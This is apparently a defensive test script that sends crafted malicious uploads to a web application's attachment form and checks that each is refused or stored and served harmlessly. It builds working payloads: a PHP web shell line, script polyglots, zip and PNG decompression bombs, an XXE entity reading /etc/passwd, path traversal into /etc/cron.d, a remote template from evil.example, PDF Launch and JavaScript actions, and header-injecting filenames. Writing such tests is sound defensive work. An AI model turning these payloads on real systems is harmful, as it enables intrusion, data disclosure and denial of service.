"""Files that mean harm, sent by real multipart requests: refused by a sentence beside its field, what was typed kept, or taken and then
served so that they can do nothing. Every file is made here. Prints a line a check: 0 or 1, its name, a detail, apart by tabulations.

   /usr/bin/python3 uploads.py COOKIE SHEET SQL...   SQL...: a command that runs the statement given last; BASE in the environment
"""
import base64
import http.client
import io
import os
import re
import struct
import subprocess
import sys
import urllib.parse
import zipfile
import zlib

cookie, sheet, *psql = sys.argv[1:]
base = urllib.parse.urlsplit(os.environ["BASE"])
SECRET = b"LIEU-SECRET-48.8584N-2.2945E"  # what the camera, or somebody, put where nobody looks


def told(good, name, detail=""):
    print(0 if good else 1, name, re.sub(r"\s+", " ", str(detail))[:400], sep="\t", flush=True)


def sql(statement):
    return subprocess.run([*psql, statement], check=True, capture_output=True, text=True).stdout.strip()


# --- images, chunk by chunk
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=8, height=6, extra=(), data=None, after=b"", seed=0):
    rows = b"".join(b"\0" + bytes((x * 17 + y * 29 + seed * 7) % 256 for x in range(width * 3)) for y in range(height)) if data is None else data
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            b"".join(chunk(k, d) for k, d in extra) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"") + after)


def exif():  # a camera's, with a place: IFD0 -> GPS IFD, and a description
    gps = struct.pack("<HHHI4s", 2, 1, 2, 2, b"N\0\0\0") + struct.pack("<HHII", 2, 5, 3, 200) + struct.pack("<I", 0)
    ifd0 = struct.pack("<H", 2) + struct.pack("<HHII", 0x010E, 2, len(SECRET), 100) + struct.pack("<HHII", 0x8825, 4, 1, 60) + struct.pack("<I", 0)
    body = bytearray(260)
    body[:8] = b"II*\0" + struct.pack("<I", 8)
    body[8:8 + len(ifd0)] = ifd0
    body[60:60 + len(gps)] = gps
    body[100:100 + len(SECRET)] = SECRET
    body[200:224] = struct.pack("<6I", 48, 1, 51, 1, 30, 1)
    return bytes(body)


JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEAYABgAAD//gA7Q1JFQVRPUjogZ2QtanBlZyB2MS4wICh1c2luZyBJSkcgSlBFRyB2NjIpLCBxdWFsaXR5ID0gNjAK/9sAQwANCQoLCggNCwoLDg"
    "4NDxMgFRMSEhMnHB4XIC4pMTAuKS0sMzpKPjM2RjcsLUBXQUZMTlJTUjI+WmFaUGBKUVJP/9sAQwEODg4TERMmFRUmTzUtNU9PT09PT09PT09PT09PT09PT09PT09PT09P"
    "T09PT09PT09PT09PT09PT09PT09PT09P/8AAEQgADAAQAwEiAAIRAQMRAf/EAB8AAAEFAQEBAQEBAAAAAAAAAAABAgMEBQYHCAkKC//EALUQAAIBAwMCBAMFBQQEAAABfQ"
    "ECAwAEEQUSITFBBhNRYQcicRQygZGhCCNCscEVUtHwJDNicoIJChYXGBkaJSYnKCkqNDU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6g4SFhoeIiYqS"
    "k5SVlpeYmZqio6Slpqeoqaqys7S1tre4ubrCw8TFxsfIycrS09TV1tfY2drh4uPk5ebn6Onq8fLz9PX29/j5+v/EAB8BAAMBAQEBAQEBAQEAAAAAAAABAgMEBQYHCAkKC/"
    "/EALURAAIBAgQEAwQHBQQEAAECdwABAgMRBAUhMQYSQVEHYXETIjKBCBRCkaGxwQkjM1LwFWJy0QoWJDThJfEXGBkaJicoKSo1Njc4OTpDREVGR0hJSlNUVVZXWFlaY2Rl"
    "ZmdoaWpzdHV2d3h5eoKDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uLj5OXm5+jp6vLz9PX29/j5+v/aAAwDAQACEQMRAD"
    "8A5210rp8ta9rpXT5a2rW2i4+Wte1touPlpV8dIzyrMZ6H/9k=")
WEBP = base64.b64decode("UklGRkgAAABXRUJQVlA4IDwAAACwAQCdASoQAAwAAsBMJbACdAEOtXEwAP724pXOmh/Q8nXtphvx6GgtO8rtNEZKr//cOMEf7XgOX9mZAAA=")


def jpeg(*segments, tone=13):  # tone: a number of its quantization: other bytes once encoded
    at = JPEG.index(b"\xff\xdb") + 5
    return JPEG[:2] + b"".join(b"\xff" + bytes([m]) + struct.pack(">H", len(d) + 2) + d for m, d in segments) + JPEG[2:at] + bytes([tone]) + JPEG[at + 1:]


def webp_with_exif():
    flags = struct.pack("<I", 0x08 | 0x04) + (15).to_bytes(3, "little") + (11).to_bytes(3, "little")
    parts = [(b"VP8X", flags), (b"VP8 ", WEBP[20:]), (b"EXIF", exif()), (b"XMP ", b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>")]
    body = b"WEBP" + b"".join(k + struct.pack("<I", len(d)) + d + b"\0" * (len(d) % 2) for k, d in parts)
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- documents
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         f'<Override PartName="/word/document.xml" ContentType="{DOCX_TYPE}.main+xml"/></Types>')
DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'


def zipped(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docx(*more, document=DOCUMENT, types=TYPES):
    return zipped([("[Content_Types].xml", types), ("word/document.xml", document), *more])


def odt(*more):
    return zipped([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<office:document-content/>"), *more])


def lying_zip():  # one entry that says it holds 10 bytes, and holds a million
    z = bytearray(docx(("word/media/vide.xml", b"\0" * 1000000)))
    for at in [m.start() for m in re.finditer(b"word/media/vide.xml", z)]:
        start = z.rfind(b"PK\3\4", 0, at) if z.rfind(b"PK\1\2", 0, at) < z.rfind(b"PK\3\4", 0, at) else z.rfind(b"PK\1\2", 0, at)
        struct.pack_into("<I", z, start + (22 if z[start + 2] == 3 else 24), 10)
    return bytes(z)


def locked_zip():
    z = bytearray(docx())
    for m in re.finditer(b"PK\3\4|PK\1\2", z):
        z[m.start() + (6 if z[m.start() + 2] == 3 else 8)] |= 1
    return bytes(z)


def overlapping_zip():  # three names for one entry's bytes
    z = docx(("word/a.xml", "<a/>" * 100))
    head, central, end = z[:z.index(b"PK\1\2")], z[z.index(b"PK\1\2"):z.rindex(b"PK\5\6")], bytearray(z[z.rindex(b"PK\5\6"):])
    last = central[central.rindex(b"PK\1\2"):]
    central += last.replace(b"word/a.xml", b"word/b.xml") + last.replace(b"word/a.xml", b"word/c.xml")
    struct.pack_into("<HHII", end, 8, 5, 5, len(central), len(head))
    return head + central + bytes(end)


def pdf(objects=b"", head=b"", tail=b"", text=b""):
    body = b"%PDF-1.4\n" + text + b"1 0 obj\n<</Type /Catalog /Pages 2 0 R" + objects + b">>\nendobj\n2 0 obj\n<</Type /Pages /Kids [] /Count 0>>\nendobj\n"
    xref = len(body)
    return head + body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R /Size 3>>\nstartxref\n%d\n%%%%EOF\n" % xref + tail


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="trap(1)"><script>trap(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>trap(1)</script>"
MACRO = docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0Attribut VB_Name"))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 3040  # what Word makes of a password
TAKEN = None
WRONG = "ne contient pas ce que son nom annonce"
CASES = [  # what it is, its name, the type that is said, its bytes, the words of the refusal; TAKEN: it is taken
    ("nothing", "vide.png", "image/png", b"", "Ce fichier est vide"),
    ("10 MB and a byte", "lourd.jpg", "image/jpeg", jpeg() + b"\0" * (10485761 - len(JPEG)), r"10\sMo"),
    ("a GIF that is a script", "anime.gif", "image/gif", b"GIF89a/*\0\0\0\0\0*/=1;trap(1)", "Ce genre de fichier"),
    ("the same, called PNG", "anime.png", "image/png", b"GIF89a/*\0\0\0\0\0*/=1;trap(1)", WRONG),
    ("a page before a PDF", "rapport.pdf", "application/pdf", pdf(head=HTML), WRONG + "|n’est pas fait comme"),
    ("a page inside a PDF", "page.pdf", "application/pdf", pdf(text=b"%" + HTML + b"\n"), TAKEN),
    ("a page after a PDF", "suite.pdf", "application/pdf", pdf(tail=HTML), "autre chose après sa fin"),
    ("a ZIP after a PDF", "archive.pdf", "application/pdf", pdf(tail=zipped([("a.jar", "x")])), "autre chose après sa fin"),
    ("a ZIP after a PNG", "plan.png", "image/png", png(after=zipped([("x.class", SECRET)]), seed=1), TAKEN),
    ("a script after a JPEG", "photo.jpg", "image/jpeg", jpeg() + b"<script>trap(1)</script>" + SECRET, TAKEN),
    ("a script in a JPEG's comment", "mot.jpeg", "image/jpeg", jpeg((0xFE, b"*/=1;trap(1)//" + SECRET), tone=60), TAKEN),
    ("PHP in a PNG's text", "a.php.png", "image/png", png(extra=[(b"tEXt", b"Comment\0<?php system($_GET[0]);" + SECRET)], seed=2), TAKEN),
    ("two extensions, a page", "rapport.pdf.html", "application/pdf", HTML, "Ce genre de fichier"),
    ("two extensions, a program", "photo.png.exe", "image/png", b"MZ\x90\0" + b"\0" * 200, "Ce genre de fichier"),
    ("PHP called PNG", "coquille.php.png", "image/png", b"<?php system($_GET[0]);", WRONG),
    ("an SVG with a script", "logo.svg", "image/svg+xml", SVG, "SVG"),
    ("the same, called PNG", "logo.png", "image/png", SVG, WRONG),
    ("a page called JPEG", "page.jpg", "image/jpeg", HTML, WRONG),
    ("a PNG called PDF", "plan.pdf", "application/pdf", png(), WRONG),
    ("a PNG that says it is a page", "dit-html.png", "text/html", png(seed=3), TAKEN),
    ("a PNG that says nothing", "sans-type.png", "", png(seed=4), TAKEN),
    ("a DOCX bomb", "bombe.docx", DOCX_TYPE, docx(("word/bombe.xml", b"a" * 40000000)), "démesuré"),
    ("an ODT bomb", "bombe.odt", "application/vnd.oasis.opendocument.text", odt(("Pictures/a.png", b"\0" * 40000000)), "démesuré"),
    ("a DOCX of 2,000 entries", "foule.docx", DOCX_TYPE, docx(*[(f"word/{i}.xml", "<a/>") for i in range(2000)]), "démesuré"),
    ("a DOCX that lies about sizes", "menteur.docx", DOCX_TYPE, lying_zip(), "démesuré|n’est pas fait comme"),
    ("a DOCX whose entries overlap", "plis.docx", DOCX_TYPE, overlapping_zip(), "n’est pas fait comme"),
    ("a PNG of 30,000 by 30,000", "mur.png", "image/png", png(30000, 30000, data=b"\0" * 1000), "trop de points"),
    ("a PNG that unpacks to 60 MB", "bombe.png", "image/png", png(4, 4, data=b"\0" * 60000000), "ne se lit pas"),
    ("a PNG with a bomb for a text", "texte.png", "image/png", png(extra=[(b"zTXt", b"a\0\0" + zlib.compress(SECRET * 600000))], seed=5), TAKEN),
    ("a JPEG of 65,500 by 65,500", "mur.jpg", "image/jpeg", JPEG.replace(b"\x00\x0c\x00\x10\x03", b"\xff\xdc\xff\xdc\x03"), "trop de points"),
    ("half a JPEG", "coupe.jpg", "image/jpeg", JPEG[:len(JPEG) // 2], "incomplet|ne se lit pas"),
    ("half a PNG", "coupe.png", "image/png", png(40, 40)[:120], "incomplet|ne se lit pas"),
    ("half a WebP", "coupe.webp", "image/webp", WEBP[:50], "incomplet|ne se lit pas"),
    ("half a DOCX", "coupe.docx", DOCX_TYPE, docx()[:-60], "incomplet|n’est pas fait comme"),
    ("half a PDF", "coupe.pdf", "application/pdf", pdf()[:-40], "incomplet|n’est pas fait comme"),
    ("a DOCM", "macro.docm", "application/vnd.ms-word.document.macroEnabled.12", MACRO, "macros"),
    ("a DOCM called DOCX", "macro.docx", DOCX_TYPE, MACRO, "macros"),
    ("an ODT with Basic", "macro.odt", "application/vnd.oasis.opendocument.text", odt(("Basic/script-lc.xml", "<a/>")), "macros"),
    ("a DOCX under a password", "serrure.docx", DOCX_TYPE, locked_zip(), "mot de passe"),
    ("an encrypted DOCX", "coffre.docx", DOCX_TYPE, OLE, "mot de passe"),
    ("a DOCX with an entity", "entite.docx", DOCX_TYPE, docx(document='<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'), "n’est pas fait comme"),
    ("a DOCX that goes out of itself", "chemin.docx", DOCX_TYPE, docx(("../../etc/cron.d/x", "x")), "sort de lui"),
    ("a DOCX with a template from elsewhere", "modele.docx", DOCX_TYPE, docx(("word/_rels/settings.xml.rels", '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>')), "ailleurs"),
    ("a PDF with a script", "script.pdf", "application/pdf", pdf(b"/OpenAction <</S /J#61vaScript /JS (trap)>>"), "programme"),
    ("a PDF that launches", "lance.pdf", "application/pdf", pdf(b"/OpenAction <</S /Launch /F (calc.exe)>>"), "programme"),
    ("a PDF with a file inside", "valise.pdf", "application/pdf", pdf(b"/Names <</EmbeddedFiles 9 0 R>>"), "autres fichiers"),
    ("a PDF under a password", "serrure.pdf", "application/pdf", pdf(b"/Encrypt 9 0 R"), "protégé"),
    ("EICAR called PDF", "virus.pdf", "application/pdf", EICAR, WRONG),
    ("EICAR in a document", "virus.docx", DOCX_TYPE, docx(("word/media/a.txt", EICAR)), TAKEN),
    ("a place in a JPEG", "vacances.jpg", "image/jpeg", jpeg((0xE1, b"Exif\0\0" + exif()), (0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SECRET), (0xED, b"Photoshop 3.0\0" + SECRET), (0xE2, b"ICC_PROFILE\0\1\1" + SECRET), tone=90), TAKEN),
    ("a place in a WebP", "vacances.webp", "image/webp", webp_with_exif(), TAKEN),
    ("a place in a PNG", "vacances.png", "image/png", png(extra=[(b"eXIf", exif()), (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SECRET)], seed=6), TAKEN),
    ("a name that climbs", "../../../../etc/passwd.png", "image/png", png(seed=7), TAKEN),
    ("a name with a header", "a%22; filename=%22x.html%0d%0aX-Y: z%0d%0a.png", "image/png", png(seed=8), TAKEN),
    ("a name read backwards", "facture\u202egnp.exe.png", "image/png", png(seed=9), TAKEN),
    ("a name that is markup", "<img src=x onerror=trap(1)>.png", "image/png", png(seed=10), TAKEN),
    ("a long name", "a" * 250 + ".png", "image/png", png(seed=11), TAKEN),
    ("a name with nothing", ".png", "image/png", png(seed=12), "Ce genre de fichier"),
]

LABEL, ALT = 'Ce qu’on garde <i>"', "Un plan <b>"
connection = http.client.HTTPConnection(base.hostname, base.port, timeout=60)


def ask(method, path, body=None, headers=()):
    global connection
    h = {"Cookie": f"session={cookie}", "Sec-Fetch-Site": "same-origin", "Accept": "text/html", **dict(headers)}
    try:
        connection.request(method, path, body, h)
        answer = connection.getresponse()
        return answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read()
    except (OSError, http.client.HTTPException):  # what was refused before it was read: nginx closed
        connection.close()
        connection = http.client.HTTPConnection(base.hostname, base.port, timeout=60)
        raise


def multipart(fields, files, boundary=b"----limite"):
    out = [b'--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (boundary, k.encode(), v.encode()) for k, v in fields]
    for name, filename, kind, data in files:
        out.append(b'--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n%s\r\n%s\r\n' %
                   (boundary, name.encode(), filename.replace('"', "%22").encode(), b"Content-Type: %s\r\n" % kind.encode() if kind else b"", data))
    return b"".join(out) + b"--%s--\r\n" % boundary, {"Content-Type": "multipart/form-data; boundary=" + boundary.decode()}


def token_of(page):
    return re.search(rb'name="jeton" value="([^"]*)"', page)[1].decode()


here = f"/fiches/{sheet}/travail/pieces"
jeton = token_of(ask("GET", here)[2])
served = []
for what, filename, kind, data, refusal in CASES:
    fields = [("jeton", jeton), ("action", "ajouter"), ("libelle", LABEL if refusal else ""), ("alt", ALT)]
    body, headers = multipart(fields if fields[2][1] else [f for f in fields if f[1]], [("fichier", filename, kind, data)])
    status, head, page = ask("POST", here, body, headers)
    text = page.decode("utf-8", "replace")
    if refusal:
        seen = re.search(r'<a href="#f-fichier">([^<]*)</a>', text)
        kept = 'value="Ce qu’on garde &lt;i&gt;&quot;"' in text.replace("&#34;", "&quot;") and 'value="Un plan &lt;b&gt;"' in text
        good = status in (400, 422) and seen and re.search(refusal, seen[1]) and kept and 'id="f-fichier"' in text
        told(good, f"{what}: refused beside its field, what was typed is there", f"{status} {seen and seen[1]} kept={kept}")
        continue
    if not (status == 303 and head.get("location") == here + "?fait=ajoutee"):
        seen = re.search(r'class="message err".*?</div>', text, re.S)
        told(False, f"{what}: taken", f"{status} {seen and seen[0]}")
        continue
    served.append((what, data, int(sql(f"select max(id) from attachment where sheet_id = {sheet}"))))
told(len({number for what, data, number in served}) == sum(c[4] is TAKEN for c in CASES), "each file taken is kept, none for another", len(served))

WANTED = {"png": "image/png", "jpg": "image/jpeg", "webp": "image/webp", "pdf": "application/pdf", "docx": DOCX_TYPE}
listed = ask("GET", here)[2].decode()
told("onerror=trap" in listed and not re.search(r"<img[^>]*trap|<script>", listed) and "\u202e" not in listed, "names of files are texts in the page, and read forwards", re.findall(r".{30}trap.{30}|.{20}\u202e.{20}", listed))


def judge(what, data, path, where):
    status, head, got = ask("GET", path)
    disposition = re.fullmatch(r'(inline|attachment); filename="([a-z0-9-]+\.([a-z]+))"', head.get("content-disposition", ""))
    image = disposition and disposition[3] in ("png", "jpg", "webp")
    faults = [] if status == 200 else [f"{status}"]
    if not disposition or head.get("content-type") != WANTED.get(disposition[3]) or (disposition[1] == "inline") != bool(image) or len(disposition[2]) > 120:
        faults.append(f"{head.get('content-type')} {head.get('content-disposition')}")
    if head.get("x-content-type-options") != "nosniff":
        faults.append("no nosniff")
    if head.get("content-security-policy") != "default-src 'none'; frame-ancestors 'none'; sandbox":
        faults.append(f"CSP {head.get('content-security-policy')}")
    if set(head) & {"x-y", "set-cookie", "refresh", "location"}:
        faults.append(f"a header {sorted(head)}")
    if image:
        if any(word in got for word in (SECRET, SECRET[:12], b"Exif", b"eXIf", b"ns.adobe", b"Photoshop", b"ICC_PROFILE", b"trap(", b"<?php", b"PK\3\4", b"tEXt", b"zTXt", b"iTXt", b"CREATOR")):
            faults.append("something hidden is still there")
        if got == data:
            faults.append("not encoded anew")
    elif got != data:
        faults.append("a document is not what was sent")
    told(not faults, f"{what}: {where}, harmless", ", ".join(faults))


for what, data, number in served:
    name = sql(f"select id || '-' || left(blob, 8) || '-' || name from attachment where id = {number}")
    judge(what, data, f"{here}/{name}", "for who writes")
sql(f"update attachment set published_at = now() where sheet_id = {sheet}")
for what, data, number in served:
    name = sql(f"select id || '-' || left(blob, 8) || '-' || name from attachment where id = {number}")
    judge(what, data, f"/fiches/{sheet}/pieces/{name}", "for readers")

# --- forms that are not forms, and more than nginx takes
n = sql(f"select count(*) from attachment where sheet_id = {sheet}")
good = png(seed=20)
odd = {
    "no boundary": (multipart([("jeton", jeton)], [("fichier", "a.png", "image/png", good)])[0], {"Content-Type": "multipart/form-data"}),
    "a boundary that never ends": (multipart([("jeton", jeton), ("alt", "x")], [("fichier", "a.png", "image/png", good)])[0][:-14], {"Content-Type": "multipart/form-data; boundary=----limite"}),
    "a file for a text": multipart([("jeton", jeton)], [("libelle", "a.png", "image/png", good), ("alt", "b.png", "image/png", good)]),
    "a text for a file": multipart([("jeton", jeton), ("fichier", good[8:].decode("latin-1")), ("alt", "x")], []),
    "a file nobody asked for": multipart([("jeton", jeton), ("alt", "x")], [("autre", "a.png", "image/png", good)]),
    "a name of 5,000 letters": multipart([("jeton", jeton), ("alt", "x")], [("fichier", "a" * 5000 + ".png", "image/png", good)]),
    "900 parts": multipart([("jeton", jeton), *[(f"x{i}", "y") for i in range(900)]], []),
    "a form that says it is JSON": (multipart([("jeton", jeton)], [("fichier", "a.png", "image/png", good)])[0], {"Content-Type": "application/json"}),
}
for what, (body, headers) in odd.items():
    status, head, page = ask("POST", here, body, headers)
    told(status in (400, 403, 413, 415, 422) and b'lang="fr"' in page, f"{what}: refused", f"{status} {page[:80]}")
try:
    body, headers = multipart([("jeton", jeton), ("alt", "x")], [("fichier", "a.png", "image/png", b"\0" * 12000000)])
    status, head, page = ask("POST", here, body, headers)
    told(status == 413 and "10 Mo" in page.decode().replace("\u00a0", " "), "12 MB: refused by nginx, in French, with the limit", f"{status} {page[:200]}")
except (OSError, http.client.HTTPException):
    told(True, "12 MB: nginx closed before the end")
told(sql(f"select count(*) from attachment where sheet_id = {sheet}") == n, "and nothing more is kept")
